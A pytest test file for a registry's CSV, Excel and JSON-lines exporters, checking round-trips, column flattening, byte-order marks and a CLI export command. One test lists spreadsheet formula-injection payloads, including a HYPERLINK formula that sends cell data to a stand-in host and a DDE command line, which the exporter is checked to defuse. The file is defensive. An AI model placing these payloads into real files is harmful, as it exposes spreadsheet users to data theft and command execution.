"""Tables for spreadsheets and scripts, read back by the standard library."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from cli import main
from registry.commands import export
from registry.connection import memory_registry, open_registry
from registry.exports import exported_table
from registry.exports.tables import FORMS, TABLES, comma_separated, for_spreadsheets, json_lines
from tests.registry.samples import claim, keep

CELLS = st.none() | st.booleans() | st.integers() | st.text()


def read_back(lines: list[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(f"{line}\r\n" for line in lines), newline=""), strict=True))


def cell(value: object) -> str:
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


@given(st.lists(st.fixed_dictionaries({"id": CELLS, "a": st.fixed_dictionaries({"quote": CELLS})}), min_size=1))
def test_a_cell_holds_exactly_what_the_record_holds(records: list[dict[str, object]]) -> None:
    found = read_back(list(comma_separated(records)))
    expected = []
    for record in records:
        side = record["a"]
        assert isinstance(side, Mapping)
        expected.append({"id": cell(record["id"]), "a_quote": cell(side["quote"])})
    assert found == expected


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("https://evil.example?"&A1,"open")', '\'=HYPERLINK("https://evil.example?"&A1,"open")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-1,18", "'-1,18"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("港口有340家企业", "港口有340家企业"),
        ("1-2", "1-2"),
        (-5, "-5"),
        (None, ""),
    ],
)
def test_no_cell_of_a_spreadsheet_is_a_formula(text: object, shown: str) -> None:
    first, *rest = for_spreadsheets([{"quote": text, "a": {"id": "x"}}])
    assert first == "\ufeffquote,a_id"
    assert read_back([first.removeprefix("\ufeff"), *rest]) == [{"quote": shown, "a_id": "x"}]
    assert read_back(list(comma_separated([{"quote": text}])))[0]["quote"] == cell(text)


def test_a_command_writes_the_mark_of_the_encoding_once(tmp_path: Path) -> None:
    database = str(tmp_path / "registry.db")
    with open_registry(tmp_path / "registry.db", create=True) as registry:
        keep(registry, "a.txt", "港口有企業三百家", claim("港口有企業三百家", "港口有企業三百家", "三百家", 300))
    for form, mark in (("excel", b"\xef\xbb\xbf"), ("csv", b"")):
        result = CliRunner().invoke(main, ["export", "--db", database, "claims", "--format", form])
        assert result.stdout_bytes.startswith(mark + b"id,source")
        assert result.stdout_bytes.count(b"\xef\xbb\xbf") == len(mark) / 3
        assert "三百家" in result.stdout_bytes.decode("utf-8")


def test_the_command_knows_the_forms_and_the_tables() -> None:
    assert tuple(FORMS) == export.FORMS
    assert tuple(TABLES) == export.TABLES


@given(st.lists(st.dictionaries(st.text(), CELLS)))
def test_json_lines_are_the_records(records: list[dict[str, object]]) -> None:
    assert [json.loads(line) for line in json_lines(records)] == records


def test_columns_are_those_of_all_records() -> None:
    records: list[dict[str, object]] = [{"id": 1, "decision": None}, {"id": 2, "decision": {"by": "Lin"}}]
    assert read_back(list(comma_separated(records)))[1] == {"id": "2", "decision": "", "decision_by": "Lin"}


def test_a_list_is_json_in_its_cell() -> None:
    held = [{"value": "340家", "agree": ["a"]}]
    full, empty = read_back(list(comma_separated([{"held": held}, {"held": []}])))
    assert json.loads(full["held"]) == held
    assert empty["held"] == ""


@pytest.mark.parametrize("name", TABLES)
def test_an_empty_registry_exports_nothing(name: str) -> None:
    with memory_registry() as registry:
        assert list(exported_table(registry.db, name, None)) == list(exported_table(registry.db, name, "jsonl")) == []


def test_claims_carry_the_fields_of_the_list() -> None:
    with memory_registry() as registry:
        keep(registry, "a.txt", "港口有企業三百家", claim("港口有企業三百家", "港口有企業三百家", "三百家", 300))
        (row,) = read_back(list(exported_table(registry.db, "claims", "csv")))
        (record,) = map(json.loads, exported_table(registry.db, "claims", "jsonl"))
    assert row == {name: cell(value) for name, value in record.items()}
    assert row["quote"] == "港口有企業三百家"
